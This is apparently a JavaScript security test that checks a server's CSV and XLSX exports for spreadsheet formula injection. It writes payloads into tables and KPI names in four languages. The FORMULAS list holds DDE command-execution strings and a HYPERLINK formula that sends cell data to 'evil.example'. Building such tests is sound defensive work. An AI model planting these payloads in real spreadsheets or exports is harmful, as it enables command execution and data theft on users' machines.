import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import excel from 'exceljs';
import { ROOT } from '../built.mjs';
import { castOf } from '../verify-deal/cast.mjs';
import { Person } from '../verify-deal/person.mjs';

export const PLANTED = 'a table is written as it is';
const LANGUAGES = ['en', 'lv', 'et', 'sv'];
const SEPARATORS = [',', ';', '\t'];
const SAVE_KPI =
  'mutation ($input: SaveKpiInput!) { saveKpi(input: $input) { userErrors { code message } } }';

/** What may stand before a formula, unseen or cut off, and what it may do. */
const BEFORE = [
  '',
  ' ',
  '\t',
  '\r',
  '\n',
  '\u0000',
  '\u00a0',
  '\u200b',
  '\ufeff',
  '"',
  'x;',
  'x;"',
  'x\n',
  'x\t',
  'x\r\n ',
];
const FORMULAS = [
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"here")',
  '=1+1',
  "+1+cmd|'/C calc'!A0",
  '-1+1',
  '-2+3+cmd|x!A0',
  '@SUM(1+1)*2',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '﹦1',
];

/**
 * Formulas in every place of a table, written as CSV and XLSX by the room of documents, and as names in the files that the running
 * server hands out. No reader, whatever its separator, may find a cell that computes.
 */
export async function judge({ full, plant, stage, tell }) {
  const { writeTable } = await import(path.join(ROOT, 'apps/api/dist/documents/index.js'));
  const tables = await judgeTables({ writeTable, plant });
  if (plant) return tables;
  const served = await judgeServed({ stage, full });
  tell(`formulas: ${tables.n} cells written, ${served.files} files of the server`);
  return {
    ...tables,
    ...served,
    holds: tables.holds && served.cells > 0 && served.livelyServed === 0,
  };
}

/**
 * @param writeTable of the room of documents, built or from its source
 * @returns `{ holds, n, payloads, lively, lost }`: cells that would compute, and words that were not given back
 */
export async function judgeTables({ writeTable, plant }) {
  const words = payloads();
  const sheet = {
    name: words[0],
    head: ['first', words[0], 'last'],
    rows: words.map((word) => [word, word, -1]),
  };
  const lively = [];
  let lost = 0;
  const csv = plant ? Buffer.from(stringify([sheet.head, ...sheet.rows])) : await writeTable('csv', [sheet]);
  for (const cells of cellsOfCsv(csv)) lively.push(...cells.filter(isLively));
  const text = csv.toString();
  const [exact] = cellsOfCsv(csv);
  for (const word of words) if (!exact.some((cell) => withoutMarks(cell) === withoutMarks(word))) lost += 1;
  if (!plant) {
    const { cells, hasFormula } = await cellsOfXlsx(await writeTable('xlsx', [sheet]));
    lively.push(...cells.filter(isLively), ...(hasFormula ? ['<f>'] : []));
  }
  return {
    holds: lively.length === 0 && lost === 0 && text.length > 0,
    n: words.length * 2 * (SEPARATORS.length + 1),
    payloads: words.length,
    lively: lively.length,
    found: [...new Set(lively)].slice(0, 3),
    lost,
  };
}

/** Every kind of sign behind everything that may stand before it. */
export function payloads() {
  return FORMULAS.flatMap((formula) => BEFORE.map((before) => `${before}${formula}`));
}

/** Names of figures in four languages, and every table of figures that the server makes of them. */
async function judgeServed({ stage }) {
  const server = await stage.serve();
  const { operator, password } = await castOf(server.admin);
  const person = await new Person(server.baseUrl).signIn(operator.email, password);
  const { viewer } = await person.send('{ viewer { organisation { id } } }');
  // The API takes no NUL in a text.
  const words = payloads().filter((word) => !word.includes('\u0000'));
  const kept = [];
  for (let at = 0; at < words.length; at += LANGUAGES.length) {
    const names = LANGUAGES.map((language, index) => ({ language, text: words[at + index] ?? words[at] }));
    const input = {
      ...{
        names,
        counts: 'DEAL',
        measure: 'NUMBER',
        only: [],
        audience: 'PUBLIC',
        ownerId: viewer.organisation.id,
      },
      ...{
        isRetired: false,
        position: 500,
        target: null,
        targetOn: null,
        toldBy: null,
        id: null,
        version: null,
      },
    };
    const { saveKpi } = await person.send(SAVE_KPI, { input });
    if (saveKpi.userErrors.length === 0) kept.push(...names);
    else throw new Error(saveKpi.userErrors[0].message);
  }
  await person.send('mutation { releaseFigures { userErrors { code } } }');
  let files = 0;
  let cells = 0;
  const lively = [];
  for (const view of ['told', 'own']) {
    for (const language of LANGUAGES) {
      for (const cellsRead of cellsOfCsv(
        await person.get(`/figures/files/${view}.csv?language=${language}`),
      )) {
        cells += cellsRead.length;
        lively.push(...cellsRead.filter(isLively));
      }
      const book = await cellsOfXlsx(await person.get(`/figures/files/${view}.xlsx?language=${language}`));
      cells += book.cells.length;
      lively.push(...book.cells.filter(isLively), ...(book.hasFormula ? ['<f>'] : []));
      files += 2;
    }
  }
  await server.stop();
  return { files, named: kept.length, cells, livelyServed: lively.length };
}

/** The cells of a CSV file for each separator that a spreadsheet may be set to, the true one first. */
function cellsOfCsv(bytes) {
  return SEPARATORS.map((delimiter) =>
    parse(bytes, {
      delimiter,
      bom: true,
      relax_quotes: delimiter !== ',',
      relax_column_count: true,
      quote: delimiter === ',' ? '"' : null,
    }).flat(),
  );
}

async function cellsOfXlsx(bytes) {
  const book = new excel.Workbook();
  await book.xlsx.load(bytes);
  const cells = [];
  let hasFormula = false;
  book.eachSheet((sheet) => {
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        hasFormula ||= Boolean(cell.formula);
        if (typeof cell.value === 'string') cells.push(cell.value);
      }),
    );
  });
  return { cells, hasFormula };
}

/** Whether a spreadsheet would compute the cell; told apart from the writer's own rule. */
function isLively(cell) {
  if (/^-?\d+(\.\d+)?$/.test(cell)) return false;
  const seen = [...cell.replaceAll('"', '')].find((sign) => !isUnseen(sign)) ?? '';
  return /^[\t\r]/.test(cell) || '=+-@'.includes(seen.normalize('NFKC') || ' ');
}

function isUnseen(sign) {
  return sign.trim() === '' || sign < ' ' || /\p{Cf}|\p{Cc}/u.test(sign);
}

function withoutMarks(cell) {
  return cell.replaceAll("'", '');
}
